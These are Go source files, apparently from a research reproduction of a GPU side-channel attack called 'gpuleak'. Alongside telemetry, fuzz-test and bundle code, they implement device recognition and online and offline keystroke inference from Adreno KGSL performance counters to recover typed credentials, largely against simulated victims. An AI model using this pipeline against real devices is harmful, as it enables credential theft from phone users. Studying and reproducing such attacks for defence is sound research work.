type bucketSort struct{ bs *BucketSeries }

func (s *bucketSort) Len() int           { return len(s.bs.Bounds) }
func (s *bucketSort) Less(i, j int) bool { return s.bs.Bounds[i] < s.bs.Bounds[j] }
func (s *bucketSort) Swap(i, j int) {
	s.bs.Bounds[i], s.bs.Bounds[j] = s.bs.Bounds[j], s.bs.Bounds[i]
	s.bs.Cum[i], s.bs.Cum[j] = s.bs.Cum[j], s.bs.Cum[i]
}

// Quantile estimates the q-quantile (0 < q <= 1) by linear interpolation
// within the bucket the rank falls into, Prometheus histogram_quantile
// style. Samples beyond the last finite boundary clamp to that boundary.
// A series with no samples reports 0.
func (bs BucketSeries) Quantile(q float64) float64 {
	if bs.Count <= 0 || len(bs.Bounds) == 0 {
		return 0
	}
	rank := q * bs.Count
	prevBound, prevCum := 0.0, 0.0
	for i, cum := range bs.Cum {
		if cum >= rank {
			width := bs.Bounds[i] - prevBound
			inBucket := cum - prevCum
			if inBucket <= 0 {
				return bs.Bounds[i]
			}
			return prevBound + width*(rank-prevCum)/inBucket
		}
		prevBound, prevCum = bs.Bounds[i], cum
	}
	return bs.Bounds[len(bs.Bounds)-1]
}

// MergeSnapshots folds one flat snapshot into an accumulator with the
// right aggregation per key shape: .min keys take the minimum, .max the
// maximum, everything else (counters, .count, .sum, bucket series) sums;
// .mean keys are dropped and recomputed from the merged .sum/.count so a
// fleet merge never averages averages.
func MergeSnapshots(dst, src map[string]float64) {
	for k, v := range src {
		switch {
		case strings.HasSuffix(k, ".mean"):
			continue
		case strings.HasSuffix(k, ".min"):
			if cur, ok := dst[k]; !ok || v < cur {
				dst[k] = v
			}
		case strings.HasSuffix(k, ".max"):
			if cur, ok := dst[k]; !ok || v > cur {
				dst[k] = v
			}
		default:
			dst[k] += v
		}
	}
	for k, count := range dst {
		if !strings.HasSuffix(k, ".count") || count <= 0 {
			continue
		}
		base := strings.TrimSuffix(k, ".count")
		if sum, ok := dst[base+".sum"]; ok {
			dst[base+".mean"] = sum / count
		}
	}
}

// promFloat renders a sample value the way the text exposition expects.
func promFloat(v float64) string { return strconv.FormatFloat(v, 'g', -1, 64) }

// PromName sanitizes a dotted metric name into the Prometheus namespace:
// gpuleak_ prefix, every non-alphanumeric rune flattened to '_'.
func PromName(name string) string {
	var b strings.Builder
	b.Grow(len(name) + 8)
	b.WriteString("gpuleak_")
	for i := 0; i < len(name); i++ {
		c := name[i]
		switch {
		case c >= 'a' && c <= 'z', c >= 'A' && c <= 'Z', c >= '0' && c <= '9':
			b.WriteByte(c)
		default:
			b.WriteByte('_')
		}
	}
	return b.String()
}

// WriteProm renders the registry in Prometheus/OpenMetrics text
// exposition: counters and gauges as single samples, histograms as
// cumulative le-labelled bucket series (with trace-id exemplars on
// buckets that hold one) plus _sum and _count. Extra gauges let callers
// fold point-in-time values (queue depths, resident sessions) into the
// same scrape. Output is sorted by name, so identical registries render
// byte-identically.
func (m *Metrics) WriteProm(w io.Writer, gauges map[string]float64) error {
	type histCopy struct {
		name string
		h    histogram
	}
	var counters []string
	var hists []histCopy
	countVal := map[string]int64{}
	if m != nil {
		m.mu.Lock()
		for k, v := range m.count {
			counters = append(counters, k)
			countVal[k] = v
		}
		for k, h := range m.hist {
			c := *h
			c.buckets = append([]int64(nil), h.buckets...)
			c.ex = append([]exemplar(nil), h.ex...)
			hists = append(hists, histCopy{k, c})
		}
		m.mu.Unlock()
	}
	sort.Strings(counters)
	sort.Slice(hists, func(i, j int) bool { return hists[i].name < hists[j].name })
	gaugeNames := make([]string, 0, len(gauges))
	for k := range gauges {
		gaugeNames = append(gaugeNames, k)
	}
	sort.Strings(gaugeNames)

	for _, k := range gaugeNames {
		n := PromName(k)
		if _, err := fmt.Fprintf(w, "# TYPE %s gauge\n%s %s\n", n, n, promFloat(gauges[k])); err != nil {
			return err
		}
	}
	for _, k := range counters {
		n := PromName(k)
		if _, err := fmt.Fprintf(w, "# TYPE %s counter\n%s %d\n", n, n, countVal[k]); err != nil {
			return err
		}
	}
	for _, hc := range hists {
		n := PromName(hc.name)
		if _, err := fmt.Fprintf(w, "# TYPE %s histogram\n", n); err != nil {
			return err
		}
		cum := int64(0)
		for i, b := range DefaultBuckets {
			cum += hc.h.buckets[i]
			if _, err := fmt.Fprintf(w, "%s_bucket{le=%q} %d", n, bucketLabel(b), cum); err != nil {
				return err
			}
			if e := hc.h.ex[i]; e.trace != "" {
				if _, err := fmt.Fprintf(w, " # {trace_id=%q} %s", e.trace, promFloat(e.v)); err != nil {
					return err
				}
			}
			if _, err := io.WriteString(w, "\n"); err != nil {
				return err
			}
		}
		if _, err := fmt.Fprintf(w, "%s_bucket{le=\"+Inf\"} %d\n%s_sum %s\n%s_count %d\n",
			n, hc.h.count, n, promFloat(hc.h.sum), n, hc.h.count); err != nil {
			return err
		}
	}
	return nil
}
