// Package obs is the repo's deterministic telemetry layer: structured
// events, hierarchical sim-time spans, and a counters/histograms registry
// shared by every layer of the attack pipeline (kgsl ioctls, the sampler,
// the online engine, the offline trainer, the worker pool, and the
// experiment driver).
//
// Two properties shape the design:
//
//   - Zero cost when disabled. Every method is nil-safe: a nil *Tracer
//     (or nil *Metrics) turns the whole layer off, and instrumented call
//     sites guard with Enabled() so the off path performs no allocation
//     and no locking.
//
//   - Deterministic when enabled. Events are stamped with sim.Time, never
//     a wall clock, and concurrent writers record into per-task child
//     tracers created in index order by the coordinating goroutine.
//     Events() merges child buffers in creation order and stable-sorts by
//     timestamp, so a fixed seed yields a byte-identical stream at any
//     worker count.
//
// Event names are registered constants: construct them once, at package
// level, with NewName. The gpuvet "obsevent" analyzer enforces both the
// registration discipline and that event timestamps are genuine sim.Time
// values, never wall-clock conversions.
package obs

import (
	"fmt"
	"sort"
	"sync"

	"gpuleak/internal/sim"
)

// Name is a registered telemetry event name. Allocate names with NewName
// in package-level var declarations only.
type Name string

var (
	nameMu  sync.Mutex
	nameSet = map[Name]bool{}
)

// NewName registers an event name. Registering the same name twice is a
// programming error (names are package-level constants, initialized
// once), so it panics.
func NewName(s string) Name {
	n := Name(s)
	nameMu.Lock()
	defer nameMu.Unlock()
	if nameSet[n] {
		panic(fmt.Sprintf("obs: event name %q registered twice", s))
	}
	nameSet[n] = true
	return n
}

// Registered reports whether a name has been registered; the JSONL reader
// accepts unregistered names (a stream may outlive the binary's name set)
// but exporters never invent them.
func Registered(n Name) bool {
	nameMu.Lock()
	defer nameMu.Unlock()
	return nameSet[n]
}

// RegisteredNames returns every registered name, sorted.
func RegisteredNames() []string {
	nameMu.Lock()
	defer nameMu.Unlock()
	out := make([]string, 0, len(nameSet))
	for n := range nameSet {
		out = append(out, string(n))
	}
	sort.Strings(out)
	return out
}

// Field is one typed event attribute. Exactly one of Str/Num is active;
// fields keep insertion order so exported streams are reproducible.
type Field struct {
	Key   string
	Str   string
	Num   float64
	IsNum bool
}

// Str builds a string-valued field.
func Str(k, v string) Field { return Field{Key: k, Str: v} }

// Num builds a numeric field.
func Num(k string, v float64) Field { return Field{Key: k, Num: v, IsNum: true} }

// Int builds an integer-valued numeric field.
func Int(k string, v int) Field { return Num(k, float64(v)) }

// Event is one telemetry record. Dur > 0 marks a completed span
// (rendered as a Chrome "complete" event); Dur == 0 is an instant.
type Event struct {
	At     sim.Time
	Dur    sim.Time
	Name   Name
	Track  string
	Fields []Field
}

// Tracer records events onto one track. A Tracer must only be written by
// a single goroutine; concurrent tasks each record into their own Child,
// created in index order by the coordinating goroutine before the tasks
// start. The zero tracer (nil) is disabled and every method no-ops.
type Tracer struct {
	track   string
	metrics *Metrics

	mu       sync.Mutex
	events   []Event
	children []*Tracer
}

// rootTrack is the track of a New tracer; children replace rather than
// extend it, so top-level child tracks read cleanly ("offline/007", not
// "main/offline/007").
const rootTrack = "main"

// New creates an enabled root tracer with a fresh metrics registry.
func New() *Tracer {
	return &Tracer{track: rootTrack, metrics: NewMetrics()}
}

// Enabled reports whether the tracer records anything; instrumented hot
// paths guard field construction with it so the disabled path allocates
// nothing.
func (t *Tracer) Enabled() bool { return t != nil }

// Track returns the tracer's track name ("" when disabled).
func (t *Tracer) Track() string {
	if t == nil {
		return ""
	}
	return t.track
}

// Metrics returns the registry shared by this tracer and all its
// children (nil when disabled).
func (t *Tracer) Metrics() *Metrics {
	if t == nil {
		return nil
	}
	return t.metrics
}

// Child creates a sub-tracer recording onto its own track and buffer.
// Children must be created by the coordinating goroutine in a
// deterministic order (e.g. task-index order) BEFORE handing them to
// concurrent tasks: Events() merges buffers in creation order, which is
// what keeps the exported stream independent of scheduling.
func (t *Tracer) Child(track string) *Tracer {
	if t == nil {
		return nil
	}
	full := track
	if t.track != rootTrack && t.track != "" {
		full = t.track + "/" + track
	}
	c := &Tracer{track: full, metrics: t.metrics}
	t.mu.Lock()
	t.children = append(t.children, c)
	t.mu.Unlock()
	return c
}

// Emit records an instant event at a simulated timestamp.
func (t *Tracer) Emit(at sim.Time, name Name, fields ...Field) {
	if t == nil {
		return
	}
	t.mu.Lock()
	t.events = append(t.events, Event{At: at, Name: name, Track: t.track, Fields: fields})
	t.mu.Unlock()
}

// Span is an in-flight hierarchical span; End completes it. A nil span
// (from a disabled tracer) ignores End.
type Span struct {
	t   *Tracer
	idx int
	at  sim.Time
}

// Start opens a span at a simulated timestamp. The span appears in the
// stream ordered by its start time; nesting is inferred from containment
// (Perfetto renders contained spans as children on the same track).
func (t *Tracer) Start(at sim.Time, name Name, fields ...Field) *Span {
	if t == nil {
		return nil
	}
	t.mu.Lock()
	idx := len(t.events)
	t.events = append(t.events, Event{At: at, Name: name, Track: t.track, Fields: fields})
	t.mu.Unlock()
	return &Span{t: t, idx: idx, at: at}
}

// End completes the span at a simulated timestamp. An end before the
// start is clamped to a zero-length span.
func (s *Span) End(at sim.Time) {
	if s == nil {
		return
	}
	dur := at - s.at
	if dur < 0 {
		dur = 0
	}
	s.t.mu.Lock()
	s.t.events[s.idx].Dur = dur
	s.t.mu.Unlock()
}

// AddField appends a field to the span's event (e.g. a result computed
// after Start).
func (s *Span) AddField(f Field) {
	if s == nil {
		return
	}
	s.t.mu.Lock()
	s.t.events[s.idx].Fields = append(s.t.events[s.idx].Fields, f)
	s.t.mu.Unlock()
}

// Events returns the merged telemetry stream: this tracer's events
// followed by every child's (recursively, in creation order), then
// stable-sorted by timestamp. Because buffer concatenation order is a
// pure function of child creation order — never of goroutine scheduling —
// the result is byte-identical at any worker count.
func (t *Tracer) Events() []Event {
	if t == nil {
		return nil
	}
	var out []Event
	t.collect(&out)
	sort.SliceStable(out, func(i, j int) bool { return out[i].At < out[j].At })
	return out
}

func (t *Tracer) collect(out *[]Event) {
	t.mu.Lock()
	events := t.events
	children := t.children
	t.mu.Unlock()
	*out = append(*out, events...)
	for _, c := range children {
		c.collect(out)
	}
}

// Len returns the number of events recorded by this tracer and its
// children.
func (t *Tracer) Len() int {
	if t == nil {
		return 0
	}
	t.mu.Lock()
	n := len(t.events)
	children := t.children
	t.mu.Unlock()
	for _, c := range children {
		n += c.Len()
	}
	return n
}
