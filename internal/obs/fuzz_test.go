package obs

import (
	"bytes"
	"strings"
	"testing"
)

// FuzzReadJSONL hardens the telemetry reader the same way trace.FuzzReadCSV
// hardens the trace parser: arbitrary input never panics, and any stream
// that parses must survive a write/read round trip unchanged (the writer
// is canonical, so the second serialization must equal the first).
func FuzzReadJSONL(f *testing.F) {
	var buf bytes.Buffer
	_ = WriteJSONL(&buf, sampleEvents())
	f.Add(buf.String())
	f.Add("")
	f.Add("{}\n")
	f.Add(`{"seq":0,"at_us":12,"name":"e","track":"main"}` + "\n")
	f.Add(`{"seq":0,"at_us":12,"dur_us":3,"name":"e","track":"t","attrs":{"a":1,"b":"x"}}` + "\n")
	f.Fuzz(func(t *testing.T, doc string) {
		evs, err := ReadJSONL(strings.NewReader(doc))
		if err != nil {
			return
		}
		var out bytes.Buffer
		if err := WriteJSONL(&out, evs); err != nil {
			t.Fatalf("reserializing parsed stream: %v", err)
		}
		back, err := ReadJSONL(bytes.NewReader(out.Bytes()))
		if err != nil {
			t.Fatalf("round trip failed: %v", err)
		}
		if len(back) != len(evs) {
			t.Fatalf("round trip lost events: %d vs %d", len(back), len(evs))
		}
		var out2 bytes.Buffer
		if err := WriteJSONL(&out2, back); err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(out.Bytes(), out2.Bytes()) {
			t.Fatalf("serialization not canonical:\n%q\nvs\n%q", out.String(), out2.String())
		}
	})
}
