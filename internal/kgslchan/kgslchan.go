// Package kgslchan registers the KGSL perf-counter side channel — the
// paper's original attack surface — as the default implementation of the
// channel plane. It is a thin adapter: opening a probe is exactly
// victim.Session.Open (an unprivileged handle on /dev/kgsl-3d0), all
// trace.Width feature dimensions carry the Table-1 counters, and the
// error taxonomy is the KGSL errno family the retry machinery always
// classified. Every output of the pipeline through this adapter is
// byte-identical to the pre-channel-plane code path, which the golden
// tests pin.
package kgslchan

import (
	"gpuleak/internal/channel"
	"gpuleak/internal/fault"
	"gpuleak/internal/sim"
	"gpuleak/internal/trace"
	"gpuleak/internal/victim"
)

type kgslChannel struct{}

func (kgslChannel) Name() string { return channel.DefaultName }

func (kgslChannel) Dims() int { return trace.Width }

func (kgslChannel) Open(sess *victim.Session) (channel.Probe, error) {
	return sess.Open()
}

func (kgslChannel) Taxonomy() fault.Taxonomy { return fault.KGSL() }

// Interval is the paper's §7 default: the selected GPU performance
// counters are read every 8 ms (attack.DefaultInterval).
func (kgslChannel) Interval() sim.Time { return 8 * sim.Millisecond }

func init() { channel.Register(kgslChannel{}) }
