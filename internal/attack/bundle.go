package attack

import (
	"encoding/json"
	"fmt"
	"io"
)

// A Bundle is the set of classification models the attacking application
// ships (§7.6: ~3,000 models covering 100 phone models, 15 keyboards and
// 2 resolutions fit in ~13 MB). Serialization is a JSON array of models.

// WriteBundle serializes models as one artifact.
func WriteBundle(w io.Writer, models []*Model) error {
	if len(models) == 0 {
		return fmt.Errorf("attack: empty model bundle")
	}
	return json.NewEncoder(w).Encode(models)
}

// ReadBundle loads a bundle written by WriteBundle and validates every
// entry.
func ReadBundle(r io.Reader) ([]*Model, error) {
	var models []*Model
	if err := json.NewDecoder(r).Decode(&models); err != nil {
		return nil, fmt.Errorf("attack: decoding bundle: %w", err)
	}
	if len(models) == 0 {
		return nil, fmt.Errorf("attack: bundle has no models")
	}
	seen := map[string]bool{}
	for i, m := range models {
		if m == nil || len(m.Keys) == 0 {
			return nil, fmt.Errorf("attack: bundle entry %d has no key centroids", i)
		}
		k := m.Key.String()
		if seen[k] {
			return nil, fmt.Errorf("attack: duplicate model for %s", k)
		}
		seen[k] = true
	}
	return models, nil
}

// FindModel returns the bundle entry for a configuration, or nil.
func FindModel(models []*Model, key ModelKey) *Model {
	for _, m := range models {
		if m.Key == key {
			return m
		}
	}
	return nil
}
