package attack

import (
	"sort"

	"gpuleak/internal/sim"
	"gpuleak/internal/trace"
)

// The §5.1 greedy engine combines consecutive PC changes into a key press
// "whenever possible", which can misattribute fragments (the paper's
// example: combining the changes at times 12 and 13 of Figure 11).
// Addressing that, as the paper notes, "requires knowledge about the
// entire trace", i.e. eavesdropping only after the input finishes. This
// file implements that offline mode: a dynamic program segments each run
// of unexplained changes into the explanation with the fewest leftovers,
// trading timeliness (results only at the end) for accuracy.

// OfflineResult is the outcome of whole-trace segmentation.
type OfflineResult struct {
	Keys []InferredKey
	// Unexplained counts residual deltas no segmentation could account
	// for (system noise).
	Unexplained int
}

// SegmentTrace performs two-pass whole-trace inference:
//
//  1. a streaming pass (the §5 engine) pins down confident key presses,
//     noise events, app-switch spans and corrections;
//  2. runs of deltas the engine left unexplained are re-segmented with a
//     dynamic program that considers every contiguous grouping inside the
//     split window, not just the greedy left-to-right one.
//
// Recovered keys from pass 2 are merged into the timeline with the same
// Ti duplication rule.
func SegmentTrace(m *Model, ds []trace.Delta, interval sim.Time, opts OnlineOptions) OfflineResult {
	opts = opts.withDefaults(interval)

	// Pass 1: streaming engine, recording which deltas it consumed.
	eng := NewEngine(m, interval, opts)
	consumed := make([]bool, len(ds))
	for i, d := range ds {
		before := eng.Stats()
		eng.Process(d)
		after := eng.Stats()
		// A delta is unexplained iff it ended as "unknown" (it may later
		// be consumed retroactively by split combining, which clears the
		// pending fragment — detect that via the unknown counter).
		if after.Unknown == before.Unknown {
			consumed[i] = true
		}
	}
	// Fragments that the engine later combined into a key or noise event
	// were counted as unknown when first seen and stay marked unexplained
	// here; pass 2 may re-derive the same event from them, and the Ti
	// merge below discards such duplicates.
	keys := eng.Keys()

	// Pass 2: cluster leftover deltas by proximity and re-segment.
	type cluster struct {
		idx []int
	}
	var clusters []cluster
	var cur []int
	var lastAt sim.Time
	for i, d := range ds {
		if consumed[i] {
			continue
		}
		if len(cur) > 0 && d.At-lastAt > opts.SplitWindow {
			clusters = append(clusters, cluster{idx: cur})
			cur = nil
		}
		cur = append(cur, i)
		lastAt = d.At
	}
	if len(cur) > 0 {
		clusters = append(clusters, cluster{idx: cur})
	}

	unexplained := 0
	var recovered []InferredKey
	for _, c := range clusters {
		ks, left := segmentCluster(m, ds, c.idx)
		recovered = append(recovered, ks...)
		unexplained += left
	}

	// Merge pass-2 keys, applying the Ti duplication rule against the
	// pass-1 timeline.
	merged := append([]InferredKey(nil), keys...)
	for _, k := range recovered {
		if !violatesTi(merged, k.At, opts.DedupWindow) {
			merged = append(merged, k)
		}
	}
	sort.Slice(merged, func(i, j int) bool { return merged[i].At < merged[j].At })
	return OfflineResult{Keys: merged, Unexplained: unexplained}
}

func violatesTi(keys []InferredKey, at sim.Time, ti sim.Time) bool {
	for _, k := range keys {
		d := at - k.At
		if d < 0 {
			d = -d
		}
		if d < ti {
			return true
		}
	}
	return false
}

// segmentCluster finds the contiguous segmentation of a delta run that
// explains the most changes: each segment must classify as a key or a
// noise event; leftovers are penalized. Dynamic program over segment end
// positions (clusters are short — a handful of fragments).
func segmentCluster(m *Model, ds []trace.Delta, idx []int) ([]InferredKey, int) {
	n := len(idx)
	if n == 0 {
		return nil, 0
	}
	if n > 16 {
		// Degenerate (e.g. unlearned animation storm): bail out rather
		// than chew O(n^2) on garbage.
		return nil, n
	}

	type verdictAt struct {
		key   rune
		isKey bool
		ok    bool
	}
	// classify[i][j]: verdict for the sum of fragments i..j (inclusive).
	classify := make([][]verdictAt, n)
	for i := 0; i < n; i++ {
		classify[i] = make([]verdictAt, n)
		var sum trace.Vec
		for j := i; j < n; j++ {
			sum = sum.Add(ds[idx[j]].V)
			v := m.ClassifyDenoised(sum)
			classify[i][j] = verdictAt{key: v.R, isKey: v.IsKey, ok: v.IsKey || v.IsNoise}
		}
	}

	// best[i]: (explained fragments, segmentation) for suffix starting i.
	type state struct {
		explained int
		cuts      []int // segment start positions
	}
	best := make([]state, n+1)
	best[n] = state{}
	for i := n - 1; i >= 0; i-- {
		// Option: leave fragment i unexplained.
		best[i] = state{explained: best[i+1].explained, cuts: best[i+1].cuts}
		for j := i; j < n; j++ {
			if !classify[i][j].ok {
				continue
			}
			cand := best[j+1].explained + (j - i + 1)
			if cand > best[i].explained {
				best[i] = state{
					explained: cand,
					cuts:      append([]int{i<<8 | j}, best[j+1].cuts...),
				}
			}
		}
	}

	var keys []InferredKey
	explainedFrags := 0
	for _, cut := range best[0].cuts {
		i, j := cut>>8, cut&0xff
		explainedFrags += j - i + 1
		v := classify[i][j]
		if v.isKey {
			keys = append(keys, InferredKey{At: ds[idx[i]].At, R: v.key})
		}
	}
	return keys, n - explainedFrags
}

// EavesdropTraceOffline runs device recognition and whole-trace
// segmentation (§5.1's offline mode) over a collected trace.
func (a *Attack) EavesdropTraceOffline(tr *trace.Trace) (*Result, error) {
	ds := tr.Deltas()
	m, err := a.Recognize(ds, tr.Interval)
	if err != nil {
		return nil, err
	}
	seg := SegmentTrace(m, ds, tr.Interval, a.Options)
	rs := make([]rune, len(seg.Keys))
	for i, k := range seg.Keys {
		rs[i] = k.R
	}
	return &Result{
		Model: m.Key,
		Keys:  seg.Keys,
		Text:  string(rs),
	}, nil
}
