package attack

import (
	"context"
	"errors"
	"fmt"
	"math"

	"gpuleak/internal/fault"
	"gpuleak/internal/obs"
	"gpuleak/internal/sim"
	"gpuleak/internal/trace"
)

// ErrModelNotTrained reports an attack attempted without a classifier for
// the victim configuration — no models preloaded, or a registry lookup
// that was told not to train on miss. Match with errors.Is.
var ErrModelNotTrained = errors.New("attack: model not trained for configuration")

// Result is the outcome of one eavesdropping run.
type Result struct {
	// Model identifies the classifier chosen by device recognition.
	Model ModelKey
	// Keys are the inferred key presses (corrections already applied).
	Keys []InferredKey
	// Text is the eavesdropped credential.
	Text string
	// Stats reports the engine's internal bookkeeping.
	Stats EngineStats
	// EstimatedLength is the input length recovered from echo redraws
	// (§5.3/§9.1); -1 when no echo was observed.
	EstimatedLength int
	// Degraded reports that recovery machinery fired during the run —
	// sampler retries, re-reservations, dropped ticks, or engine gap
	// segmentation — so the inference ran on an incomplete trace. A
	// fault-free run always reports false.
	Degraded bool
	// Recovery details the sampler's recovery work (all zero when the run
	// was fault-free).
	Recovery CollectStats
}

// Attack is the end-to-end attacking application: preloaded per-device
// classification models, a polling interval, and the online engine
// options. It mirrors the victim-side monitoring service of Figure 4.
type Attack struct {
	// Models are the preloaded classifiers, one per device configuration.
	Models []*Model
	// Interval is the counter polling period (default 8 ms).
	Interval sim.Time
	// Options tune the online engine.
	Options OnlineOptions
	// Retry bounds recovery from transient device errors during sampling.
	// The zero value disables retrying — any device error aborts the run,
	// the behavior every fault-free experiment relies on.
	Retry RetryPolicy
	// Errors is the transient-error taxonomy of the side channel the probe
	// was opened on, governing retry classification and re-reservation.
	// The zero value means the KGSL taxonomy — every legacy call site
	// behaves identically.
	Errors fault.Taxonomy
	// Classify, when non-nil, overrides per-delta classification for every
	// engine this attack builds (Eavesdrop, EavesdropTrace and the
	// streaming variants). It must agree with m.ClassifyDenoised(v) for
	// every input — the hook exists so a serving tier can coalesce
	// classification work across requests (micro-batching), never to
	// change verdicts. at is the sim-time of the delta being classified.
	Classify func(m *Model, at sim.Time, v trace.Vec) Verdict
	// Obs, when non-nil, receives sampler spans, per-delta verdict events
	// and monitor events from every run driven through this Attack.
	Obs *obs.Tracer
}

// New builds an attack from preloaded models.
func New(models ...*Model) *Attack {
	return &Attack{Models: models, Interval: DefaultInterval}
}

// taxonomy resolves the attack's channel error taxonomy (default KGSL).
func (a *Attack) taxonomy() fault.Taxonomy {
	if a.Errors.Valid() {
		return a.Errors
	}
	return fault.KGSL()
}

// retryable classifies a device error under the attack's taxonomy.
func (a *Attack) retryable(err error) bool { return RetryableIn(err, a.Errors) }

// Recognize picks the classification model whose launch-frame fingerprint
// best matches the first burst of activity in the delta stream (§3.2:
// readings are first used to recognize the current device model and
// configuration). The fingerprint window matches the offline labeling
// window: two polling intervals, enough to reassemble a split launch
// frame without swallowing unrelated events.
func (a *Attack) Recognize(ds []trace.Delta, interval sim.Time) (*Model, error) {
	if len(a.Models) == 0 {
		return nil, fmt.Errorf("no models preloaded: %w", ErrModelNotTrained)
	}
	if len(a.Models) == 1 {
		return a.Models[0], nil
	}
	if len(ds) == 0 {
		return nil, fmt.Errorf("attack: no activity to recognize a device from")
	}
	if interval <= 0 {
		interval = DefaultInterval
	}
	first := ds[0].At
	launch := ds[0].V
	for _, d := range ds[1:] {
		if d.At-first > 2*interval+sim.Millisecond {
			break
		}
		launch = launch.Add(d.V)
	}
	var best *Model
	bestDist := math.Inf(1)
	for _, m := range a.Models {
		// Normalize by the model's own launch magnitude so big-screen
		// devices do not dominate.
		norm := m.Launch.Norm(m.Weights)
		if norm <= 0 {
			norm = 1
		}
		d := launch.Dist(m.Launch, m.Weights) / norm
		if d < bestDist {
			bestDist = d
			best = m
		}
	}
	return best, nil
}

// engineFor builds the online engine for one recognized model, wiring
// the attack's observability and classification hooks.
func (a *Attack) engineFor(m *Model, interval sim.Time) *Engine {
	eng := NewEngine(m, interval, a.Options)
	eng.SetObs(a.Obs)
	if a.Classify != nil {
		eng.SetClassify(func(at sim.Time, v trace.Vec) Verdict { return a.Classify(m, at, v) })
	}
	return eng
}

// resultFrom assembles the Result of a finished engine run; shared by the
// batch and streaming paths so both produce identical results.
func (a *Attack) resultFrom(m *Model, eng *Engine) *Result {
	RecordEngineStats(a.Obs.Metrics(), eng.Stats())
	stats := eng.Stats()
	return &Result{
		Model:           m.Key,
		Keys:            eng.Keys(),
		Text:            eng.Text(),
		Stats:           stats,
		EstimatedLength: eng.EstimatedLength(),
		Degraded:        stats.Gaps > 0 || stats.Resyncs > 0,
	}
}

// EavesdropTrace runs device recognition and the online engine over a
// collected trace.
func (a *Attack) EavesdropTrace(tr *trace.Trace) (*Result, error) {
	ds := tr.Deltas()
	m, err := a.Recognize(ds, tr.Interval)
	if err != nil {
		return nil, err
	}
	eng := a.engineFor(m, tr.Interval)
	eng.ProcessAll(ds)
	return a.resultFrom(m, eng), nil
}

// Eavesdrop opens the sampling loop on a victim's GPU device file over
// [start, end] and infers the typed credential. This is the full online
// phase: poll counters, recognize the device, classify deltas. f is any
// DeviceFile — a raw *kgsl.File, or a *fault.File when the run should
// face an injected fault schedule. Probes from other channels go through
// EavesdropProbe.
func (a *Attack) Eavesdrop(f DeviceFile, start, end sim.Time) (*Result, error) {
	return a.EavesdropContext(context.Background(), f, start, end)
}

// EavesdropContext is Eavesdrop with cancellation: the sampling loop
// checks ctx at every polling tick, and the engine run is skipped when
// the context dies between sampling and inference. The result for a
// completed run is byte-identical to Eavesdrop — the context is a control
// channel, never an input to the inference.
func (a *Attack) EavesdropContext(ctx context.Context, f DeviceFile, start, end sim.Time) (*Result, error) {
	return a.EavesdropStreamContext(ctx, f, start, end, nil)
}

// EavesdropProbe is Eavesdrop over any channel probe — the generic entry
// point of the channel plane. For a KGSL DeviceFile it is exactly
// Eavesdrop; for narrower channels set a.Errors to the channel's
// taxonomy so retries classify correctly.
func (a *Attack) EavesdropProbe(ctx context.Context, f Probe, start, end sim.Time) (*Result, error) {
	return a.EavesdropStreamContext(ctx, f, start, end, nil)
}

// StreamEvent is one incremental online-phase notification: the §5
// engine committed a new key press, or withdrew keys it had previously
// reported (§5.2 app-switch rollback, §5.3 correction detection). The
// serving layer's streaming sessions forward these to clients the moment
// Algorithm 1 emits them.
type StreamEvent struct {
	// At is the sim-time of the delta that triggered the event.
	At sim.Time
	// Kind is "key" for a newly inferred press, "retract" when the engine
	// withdrew previously emitted keys.
	Kind string
	// Key is the inferred press (valid only for Kind "key").
	Key InferredKey
	// Keys is the number of keys the engine stands behind after this
	// event; after a retraction it is smaller than the event count so far.
	Keys int
}

// EavesdropStreamContext is EavesdropContext with live notification:
// emit, when non-nil, is invoked synchronously for every key the online
// engine commits and every retraction it performs, in delta order — the
// paper's real-time notification-bar display as an API. A non-nil error
// from emit aborts the run (a streaming client went away). The returned
// Result is byte-identical to EavesdropContext over the same inputs: the
// emission is a tap on Algorithm 1, never a fork of it.
func (a *Attack) EavesdropStreamContext(ctx context.Context, f Probe, start, end sim.Time, emit func(StreamEvent) error) (*Result, error) {
	s, err := NewSamplerTaxonomy(f, a.Interval, a.Retry, a.Errors)
	if err != nil {
		return nil, err
	}
	s.Obs = a.Obs
	tr, err := s.CollectContext(ctx, start, end)
	if err != nil {
		return nil, err
	}
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	ds := tr.Deltas()
	m, err := a.Recognize(ds, tr.Interval)
	if err != nil {
		return nil, err
	}
	eng := a.engineFor(m, tr.Interval)
	emitted := 0
	for _, d := range ds {
		eng.Process(d)
		if emit == nil {
			continue
		}
		keys := eng.Keys()
		if len(keys) < emitted {
			emitted = len(keys)
			if err := emit(StreamEvent{At: d.At, Kind: "retract", Keys: len(keys)}); err != nil {
				return nil, err
			}
		}
		for ; emitted < len(keys); emitted++ {
			if err := emit(StreamEvent{At: d.At, Kind: "key", Key: keys[emitted], Keys: emitted + 1}); err != nil {
				return nil, err
			}
		}
	}
	res := a.resultFrom(m, eng)
	res.Recovery = s.Stats
	res.Degraded = res.Degraded || s.Stats.Degraded()
	return res, nil
}
