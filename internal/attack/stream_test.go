package attack

import (
	"context"
	"errors"
	"testing"

	"gpuleak/internal/input"
	"gpuleak/internal/sim"
	"gpuleak/internal/victim"
)

func TestStreamMatchesBatch(t *testing.T) {
	cfg := baseVictimConfig()
	cfg.Seed = 808
	m := sharedModel(t)
	sess := victim.New(cfg)
	sess.Run(input.Typing("streamed42", input.Volunteers[0], input.SpeedAny,
		sim.NewRand(3), 700*sim.Millisecond))
	f, err := sess.Open()
	if err != nil {
		t.Fatal(err)
	}
	smp, err := NewSampler(f, DefaultInterval)
	if err != nil {
		t.Fatal(err)
	}
	tr, err := smp.Collect(0, sess.End)
	if err != nil {
		t.Fatal(err)
	}

	batch, err := New(m).EavesdropTrace(tr)
	if err != nil {
		t.Fatal(err)
	}

	var live []rune
	st := NewStream(m, DefaultInterval, OnlineOptions{}, func(k InferredKey) {
		live = append(live, k.R)
	})
	for _, sample := range tr.Samples {
		st.Push(sample.At, sample.Values)
	}

	if st.Text() != batch.Text {
		t.Fatalf("stream %q != batch %q", st.Text(), batch.Text)
	}
	if string(live) != batch.Text {
		t.Fatalf("callback stream %q != batch %q", string(live), batch.Text)
	}
	if st.Stats() != batch.Stats {
		t.Fatalf("stream stats %+v != batch %+v", st.Stats(), batch.Stats)
	}
}

func TestStreamIgnoresFlatReadings(t *testing.T) {
	m := tinyModel()
	st := NewStream(m, 8*sim.Millisecond, OnlineOptions{}, nil)
	vals := [11]uint64{100, 100, 100, 100, 100, 100, 100, 100, 100, 100, 100}
	for i := 0; i < 10; i++ {
		st.Push(sim.Time(i)*8000, vals)
	}
	if st.Stats().Deltas != 0 {
